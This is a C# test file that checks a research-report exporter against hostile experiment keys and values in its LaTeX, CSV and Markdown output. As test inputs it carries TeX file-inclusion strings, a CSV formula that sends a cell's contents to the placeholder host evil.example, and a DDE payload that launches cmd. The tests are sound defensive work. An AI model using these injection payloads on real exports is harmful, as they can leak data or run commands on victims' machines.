using Hypergrid.Config;
using Hypergrid.Tests;

namespace Hypergrid.Findings.Tests;

/// <summary>
/// A study whose key names and values are hostile, reported in every file format: the LaTeX compiles with the real
/// pdflatex without reading any other file, no CSV cell starts a formula, and no Markdown row gains or loses a cell.
/// </summary>
public sealed class ReportExportTests : IDisposable
{
    private readonly TrialLog log = new();

    public void Dispose() => log.Dispose();

    // Two trials of one sweep leaf that differ only in this key, so that it is a column of the report.
    private Report HostileStudy(string key, string low, string high)
    {
        log.Trial("sweep/d/mlp/adam", 0, $"seed: 0\n{key}: {low}\n", 1.0);
        log.Trial("sweep/d/mlp/adam", 1, $"seed: 0\n{key}: {high}\n", 2.0);
        return Reporter.Build(log.Log, new ReportOptions(new Filters(null)));
    }

    [Theory]
    [InlineData("note", "'^^5cinput^^7bsecret^^7d'")]                // TeX reads ^^5c as \ and ^^7b ^^7d as { }
    [InlineData("note", "'\\input{secret}'")]
    [InlineData("'^^5cinput^^7bsecret^^7d'", "1")]                   // the key is a column head
    [InlineData("note", "'^^5c^^69nput^^7bsecret^^7d ~ # & _ % $'")] // ^^69 is i
    public void Latex_of_hostile_names_compiles_and_reads_no_other_file(string key, string value)
    {
        var report = HostileStudy(key, value, "'plain'");
        var dir = Directory.CreateDirectory(Path.Combine(log.Root, "tex")).FullName;
        File.WriteAllText(Path.Combine(dir, "secret.tex"), "\\typeout{LEAKED-SECRET}\n");
        File.WriteAllText(Path.Combine(dir, "report.tex"),
            "\\documentclass{article}\n\\usepackage{booktabs}\n\\begin{document}\n" + ReportText.ToLatex(report) + "\\end{document}\n");
        var (code, output) = PdfLatex.Run(dir, "report.tex");
        Assert.True(code == 0, $"pdflatex failed ({code}):\n{output}");
        Assert.True(File.Exists(Path.Combine(dir, "report.pdf")));
        Assert.DoesNotContain("LEAKED-SECRET", File.ReadAllText(Path.Combine(dir, "report.log")));
        // -recorder lists every file TeX opened.
        Assert.DoesNotContain("secret.tex", File.ReadAllText(Path.Combine(dir, "report.fls")));
    }

    [Theory]
    [InlineData("'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")'")]
    [InlineData("'@SUM(A1:A9)'")]
    [InlineData("'+cmd|'' /C calc''!A0'")]
    [InlineData("'-2+3'")]
    public void No_csv_cell_of_a_hostile_study_starts_a_formula(string key)
    {
        var csv = ReportText.ToCsv(HostileStudy(key, "1", "2"));
        var rows = CsvCells.Rows(csv);
        Assert.Equal(3, rows.Count);
        foreach (var cell in rows.Skip(1).SelectMany(r => r)) Assert.False(CsvCells.StartsFormula(cell), $"cell '{cell}' would start a formula");
        Assert.All(rows.Skip(1), r => Assert.StartsWith("'", r[3])); // the values column: key=value
    }

    [Theory]
    [InlineData("'a|b'", "1")]
    [InlineData("note", "'x|y|z'")]
    [InlineData("note", "\"two\\nlines | here\"")]
    public void A_markdown_row_of_a_hostile_study_keeps_its_cells(string key, string value)
    {
        var md = ReportText.ToMarkdown(HostileStudy(key, value, "'plain'"));
        var table = md.Split('\n').Where(l => l.StartsWith('|')).ToList();
        Assert.Equal(4, table.Count); // head, rule, two groups
        var cells = table.Select(l => System.Text.RegularExpressions.Regex.Matches(l, @"(?<!\\)(?:\\\\)*\|").Count).Distinct();
        Assert.Single(cells);
    }
}
